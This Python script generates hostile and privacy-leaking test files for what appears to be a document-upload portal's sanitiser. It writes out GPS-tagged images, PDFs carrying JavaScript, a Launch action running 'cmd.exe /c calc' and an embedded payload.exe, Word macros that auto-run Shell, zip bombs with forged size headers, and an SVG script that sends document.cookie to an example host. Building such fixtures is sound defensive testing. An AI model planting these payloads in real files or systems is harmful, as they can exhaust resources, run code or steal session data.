"""Make the hostile and identifying test files in tests/data/hostile/ (committed; run again to remake them).

    .venv/bin/python tests/data/make_hostile.py

Every identifying value carries the marker "Sam Whistle" (or the GPS position below), so a test can look
for it in every byte of what the portal stores. The files are kept small; the zip bombs are small on disk:

- docx_bomb_declared.docx: a part that really inflates to 400 MB of zeros, packed with bzip2 (a format
  zipfile reads) so the file is a few KB; its header honestly declares 400 MB.
- docx_bomb_ratio.docx: a 20 MB deflated part (about 20 KB on disk), under the total limit but at a
  compression ratio of about 1000:1.
- docx_bomb_lying.docx: a deflated part of 2 MB of zeros whose headers claim it is 1,000 bytes.
"""

from __future__ import annotations

import io
import struct
import zipfile
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import Image

HERE = Path(__file__).resolve().parent / "hostile"
MARKER = "Sam Whistle"
GPS_IFD, ARTIST, MAKE = 0x8825, 0x013B, 0x010F
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
XMP = f"""<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?>
<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/">
<dc:creator><rdf:Seq><rdf:li>{MARKER}</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>
<?xpacket end="w"?>"""


# ---------------------------------------------------------------- pictures


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ARTIST] = MARKER
    exif[MAKE] = "LeakyCam"
    gps = exif.get_ifd(GPS_IFD)
    gps[1] = "N"
    gps[2] = (51.0, 30.0, 26.0)
    gps[3] = "W"
    gps[4] = (0.0, 7.0, 39.0)
    return exif


def jpeg_with_gps(size: tuple[int, int] = (32, 24)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(
        out, format="JPEG", exif=exif_with_gps(), comment=MARKER.encode(), xmp=XMP.encode()
    )
    return out.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", MARKER)
    info.add_itxt("XML:com.adobe.xmp", XMP)
    out = io.BytesIO()
    Image.new("RGB", (16, 12), (10, 20, 30)).save(out, format="PNG", pnginfo=info, exif=exif_with_gps())
    return out.getvalue()


def heic_with_exif() -> bytes:
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.new("RGB", (32, 24), (30, 120, 200)).save(
        out, format="HEIF", exif=exif_with_gps().tobytes(), xmp=XMP.encode(), quality=40
    )
    return out.getvalue()


# ---------------------------------------------------------------- PDFs


def _page_pdf() -> pikepdf.Pdf:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (Statement of events) Tj ET")
    return pdf


def pdf_with_author_and_xmp() -> bytes:
    pdf = _page_pdf()
    pdf.trailer.Info = pdf.make_indirect(
        pikepdf.Dictionary(
            Author=MARKER,
            Creator=f"{MARKER}'s laptop",
            Producer="LeakyWriter 1.0",
            Title=f"Statement by {MARKER}",
        )
    )
    pdf.Root.Metadata = pdf.make_stream(XMP.encode(), Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    page = pdf.pages[0]
    page.Metadata = pdf.make_stream(XMP.encode(), Type=pikepdf.Name.Metadata, Subtype=pikepdf.Name.XML)
    page.PieceInfo = pikepdf.Dictionary(Leaky=pikepdf.Dictionary(Private=MARKER))
    # A photo drawn on the page, its JPEG still carrying EXIF (GPS, artist), XMP and a comment.
    photo = jpeg_with_gps()
    image = pdf.make_stream(
        photo,
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=32,
        Height=24,
        ColorSpace=pikepdf.Name.DeviceRGB,
        BitsPerComponent=8,
        Filter=pikepdf.Name.DCTDecode,
    )
    page.Resources.XObject = pikepdf.Dictionary(Im1=image)
    page.Contents = pdf.make_stream(b"q 64 0 0 48 20 20 cm /Im1 Do Q BT /F1 12 Tf 20 100 Td (Statement) Tj ET")
    out = io.BytesIO()
    pdf.save(out, fix_metadata_version=False)
    return out.getvalue()


def _js(pdf: pikepdf.Pdf, code: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=pdf.make_stream(code.encode()))


def pdf_with_active_content() -> bytes:
    pdf = _page_pdf()
    page = pdf.pages[0]
    secret = pdf.make_stream(f"payload from {MARKER}".encode(), Type=pikepdf.Name.EmbeddedFile)
    filespec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec,
        F=r"C:\Users\SamWhistle\payload.exe",
        UF=r"C:\Users\SamWhistle\payload.exe",
        EF=pikepdf.Dictionary(F=secret),
    )
    pdf.Root.OpenAction = _js(pdf, "app.alert('OpenAction ran');")
    pdf.Root.AA = pikepdf.Dictionary(WC=_js(pdf, "app.alert('closing');"))
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", pdf.make_indirect(_js(pdf, "this.print();"))])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["payload.exe", pdf.make_indirect(filespec)])),
    )
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Tx,
            T="name",
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            Rect=[20, 150, 180, 170],
            P=page.obj,
            AA=pikepdf.Dictionary(K=_js(pdf, "event.value = 'JavaScript keystroke';")),
        )
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array([field]),
        XFA=pdf.make_stream(
            b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>xfa.host.messageBox('x')</script></xdp:xdp>"
        ),
    )
    launch = pikepdf.Dictionary(
        S=pikepdf.Name.Launch,
        F=pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F="cmd.exe"),
        Win=pikepdf.Dictionary(F="cmd.exe", P="/c calc"),
    )
    link_launch = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50], A=launch)
    link_uri = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[50, 0, 100, 50],
        A=pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI="https://example.org/kept", Next=_js(pdf, "app.alert('chained');")
        ),
    )
    attachment = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[100, 0, 120, 20], FS=filespec, T=MARKER
    )
    page.Annots = pdf.make_indirect(
        pikepdf.Array([pdf.make_indirect(a) for a in (link_launch, link_uri, attachment)] + [field])
    )
    page.AA = pikepdf.Dictionary(O=_js(pdf, "app.launchURL('https://example.org/track');"))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_locked(user_password: str) -> bytes:
    pdf = _page_pdf()
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    return out.getvalue()


# ---------------------------------------------------------------- Word documents


def _xml(body: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' + body).encode()


def _types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> bytes:
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    body = "".join(f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in defaults.items())
    body += "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
    return _xml(f'<Types xmlns="{TYPES}">{body}</Types>')


def _rels(items: list[tuple[str, str, str] | tuple[str, str, str, str]]) -> bytes:
    body = ""
    for item in items:
        rid, kind, target = item[:3]
        mode = f' TargetMode="{item[3]}"' if len(item) > 3 else ""
        body += f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>'
    return _xml(f'<Relationships xmlns="{RELS}">{body}</Relationships>')


def _document(paragraphs: str) -> bytes:
    return _xml(
        f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
        ' xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14">'
        f"<w:body>{paragraphs}<w:sectPr/></w:body></w:document>"
    )


def _zip(files: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def _minimal_docx_parts(main_type: str = DOCX_MAIN) -> dict[str, bytes]:
    return {
        "[Content_Types].xml": _types({"/word/document.xml": main_type}),
        "_rels/.rels": _rels([("rId1", f"{OFFICE_RELS}/officeDocument", "word/document.xml")]),
        "word/document.xml": _document("<w:p><w:r><w:t>Statement</w:t></w:r></w:p>"),
    }


IDENTITY_PARAGRAPHS = (
    "<!-- edited by Sam Whistle -->"
    '<w:p><w:commentRangeStart w:id="0"/><w:r><w:t xml:space="preserve">The sergeant said </w:t></w:r>'
    f'<w:ins w:id="1" w:author="{MARKER}" w:date="2026-03-15T09:00:00Z"><w:r><w:t>loudly</w:t></w:r></w:ins>'
    f'<w:del w:id="2" w:author="{MARKER}" w:date="2026-03-15T09:01:00Z"><w:r><w:delText>quietly</w:delText>'
    "</w:r></w:del><w:r><w:rPr><w:b/>"
    f'<w:rPrChange w:id="3" w:author="{MARKER}" w:date="2026-03-15T09:02:00Z"><w:rPr/></w:rPrChange></w:rPr>'
    '<w:t>that</w:t></w:r><w:commentRangeEnd w:id="0"/>'
    '<w:r><w:commentReference w:id="0"/></w:r></w:p>'
    '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
    'wordprocessingDrawing"><wp:extent cx="304800" cy="228600"/><wp:docPr id="1" name="Picture 1"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
    'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
    'openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="0" name="photo.jpg"/>'
    '<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId5"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="304800" cy="228600"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)


def _identity_package() -> dict[str, bytes]:
    """Content types, package relationships, the three property parts, a thumbnail and customXml."""
    ct = "application/vnd.openxmlformats-officedocument"
    return {
        "[Content_Types].xml": _types(
            {
                "/word/document.xml": DOCX_MAIN,
                "/word/comments.xml": f"{ct}.wordprocessingml.comments+xml",
                "/word/people.xml": f"{ct}.wordprocessingml.people+xml",
                "/word/settings.xml": f"{ct}.wordprocessingml.settings+xml",
                "/docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
                "/docProps/app.xml": f"{ct}.extended-properties+xml",
                "/docProps/custom.xml": f"{ct}.custom-properties+xml",
                "/customXml/itemProps1.xml": f"{ct}.customXmlProperties+xml",
            },
            {"jpeg": "image/jpeg"},
        ),
        "_rels/.rels": _rels(
            [
                ("rId1", f"{OFFICE_RELS}/officeDocument", "word/document.xml"),
                (
                    "rId2",
                    "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties",
                    "docProps/core.xml",
                ),
                ("rId3", f"{OFFICE_RELS}/extended-properties", "docProps/app.xml"),
                ("rId4", f"{OFFICE_RELS}/custom-properties", "docProps/custom.xml"),
                (
                    "rId5",
                    "http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail",
                    "docProps/thumbnail.jpeg",
                ),
            ]
        ),
        "docProps/core.xml": _xml(
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"'
            ' xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:creator>{MARKER}</dc:creator><cp:lastModifiedBy>{MARKER}</cp:lastModifiedBy>"
            f"<dc:title>Statement by {MARKER}</dc:title></cp:coreProperties>"
        ),
        "docProps/app.xml": _xml(
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties">'
            f"<Company>{MARKER} Ltd</Company><Manager>{MARKER}</Manager><Template>Police.dotx</Template>"
            "</Properties>"
        ),
        "docProps/custom.xml": _xml(
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" '
            'xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
            '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="Reporter">'
            f"<vt:lpwstr>{MARKER}</vt:lpwstr></property></Properties>"
        ),
        "docProps/thumbnail.jpeg": jpeg_with_gps((8, 8)),
        "customXml/item1.xml": _xml(f"<sharepoint><owner>{MARKER}</owner></sharepoint>"),
        "customXml/itemProps1.xml": _xml(
            '<ds:datastoreItem ds:itemID="{1}" xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/'
            'customXml"/>'
        ),
        "customXml/_rels/item1.xml.rels": _rels([("rId1", f"{OFFICE_RELS}/customXmlProps", "itemProps1.xml")]),
    }


def _identity_word() -> dict[str, bytes]:
    """The document with tracked changes, its comments, people, settings and a GPS-tagged photo."""
    return {
        "word/document.xml": _document(IDENTITY_PARAGRAPHS),
        "word/_rels/document.xml.rels": _rels(
            [
                ("rId1", f"{OFFICE_RELS}/comments", "comments.xml"),
                ("rId2", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
                ("rId3", f"{OFFICE_RELS}/settings", "settings.xml"),
                ("rId4", f"{OFFICE_RELS}/customXml", "../customXml/item1.xml"),
                ("rId5", f"{OFFICE_RELS}/image", "media/image1.jpeg"),
                ("rId9", f"{OFFICE_RELS}/hyperlink", "https://example.org/evidence", "External"),
            ]
        ),
        "word/comments.xml": _xml(
            f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{MARKER}" w:initials="SW" '
            'w:date="2026-03-15T09:03:00Z"><w:p><w:r><w:t>Check this</w:t></w:r></w:p></w:comment></w:comments>'
        ),
        "word/people.xml": _xml(
            '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
            f'<w15:person w15:author="{MARKER}"><w15:presenceInfo w15:providerId="AD" '
            'w15:userId="S::sam.whistle@example.org::1234"/></w15:person></w15:people>'
        ),
        "word/settings.xml": _xml(
            f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
            f'<w:docVars><w:docVar w:name="Owner" w:val="{MARKER}"/></w:docVars></w:settings>'
        ),
        "word/_rels/settings.xml.rels": _rels(
            [
                (
                    "rId1",
                    f"{OFFICE_RELS}/attachedTemplate",
                    "file:///C:/Users/SamWhistle/Templates/Police.dotx",
                    "External",
                ),
            ]
        ),
        "word/media/image1.jpeg": jpeg_with_gps(),
    }


def docx_with_identity() -> bytes:
    return _zip({**_identity_package(), **_identity_word()})


def docx_with_macros() -> bytes:
    parts = _minimal_docx_parts()
    parts["[Content_Types].xml"] = _types(
        {"/word/document.xml": DOCX_MAIN}, {"bin": "application/vnd.ms-office.vbaProject"}
    )
    parts["word/_rels/document.xml.rels"] = _rels(
        [("rId1", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")]
    )
    parts["word/vbaProject.bin"] = b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub AutoOpen(): Shell "calc": End Sub'
    return _zip(parts)


def docm() -> bytes:
    parts = _minimal_docx_parts("application/vnd.ms-word.document.macroEnabled.main+xml")
    parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 Sub Document_Open(): End Sub"
    return _zip(parts)


def _zip_with_stream(name: str, size: int, compression: int) -> bytes:
    """A minimal Word document plus a part of `size` zero bytes, written in 1 MB chunks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for part, data in _minimal_docx_parts().items():
            archive.writestr(part, data)
        chunk = b"\x00" * (1024 * 1024)
        with archive.open(name, "w") as stream:
            for _ in range(size // len(chunk)):
                stream.write(chunk)
    return out.getvalue()


def docx_bomb_declared() -> bytes:
    """A part that inflates to 400 MB, packed with bzip2 so it is a few KB on disk."""
    return _zip_with_stream("word/padding.xml", 400 * 1024 * 1024, zipfile.ZIP_BZIP2)


def docx_bomb_ratio() -> bytes:
    return _zip_with_stream("word/padding.xml", 20 * 1024 * 1024, zipfile.ZIP_DEFLATED)


def docx_bomb_lying() -> bytes:
    """2 MB of zeros whose local and central headers both claim 1,000 bytes."""
    name = b"word/padding.xml"
    data = bytearray(_zip_with_stream(name.decode(), 2 * 1024 * 1024, zipfile.ZIP_DEFLATED))
    real, lie = struct.pack("<I", 2 * 1024 * 1024), struct.pack("<I", 1000)
    patched = 0
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = data.find(signature)
        while at != -1:
            if data[at + name_at : at + name_at + len(name)] == name:
                assert data[at + size_at : at + size_at + 4] == real
                data[at + size_at : at + size_at + 4] = lie
                patched += 1
            at = data.find(signature, at + 4)
    assert patched == 2
    return bytes(data)


# ---------------------------------------------------------------- text that is not text


SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><metadata>Sam Whistle</metadata>'
    b"<script>fetch('https://example.org/steal?c='+document.cookie)</script></svg>\n"
)
HTML_AS_TEXT = "\ufeff  \r\n<!DOCTYPE html><html><body><script>alert(1)</script></body></html>\n".encode()
XML_AS_TEXT = b'\n\n<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>\n'


FILES = {
    "pdf_author_xmp.pdf": pdf_with_author_and_xmp,
    "pdf_active.pdf": pdf_with_active_content,
    "pdf_locked_user.pdf": lambda: pdf_locked("open-me"),
    "pdf_locked_owner.pdf": lambda: pdf_locked(""),
    "docx_identity.docx": docx_with_identity,
    "docx_macros.docx": docx_with_macros,
    "macros.docm": docm,
    "docx_bomb_declared.docx": docx_bomb_declared,
    "docx_bomb_ratio.docx": docx_bomb_ratio,
    "docx_bomb_lying.docx": docx_bomb_lying,
    "drawing.svg": lambda: SVG,
    "page_html.txt": lambda: HTML_AS_TEXT,
    "data_xml.txt": lambda: XML_AS_TEXT,
    "photo_gps.jpg": jpeg_with_gps,
    "screenshot_text.png": png_with_text,
    "photo_exif.heic": heic_with_exif,
}


def main() -> None:
    HERE.mkdir(exist_ok=True)
    for name, make in FILES.items():
        data = make()
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")


if __name__ == "__main__":
    main()
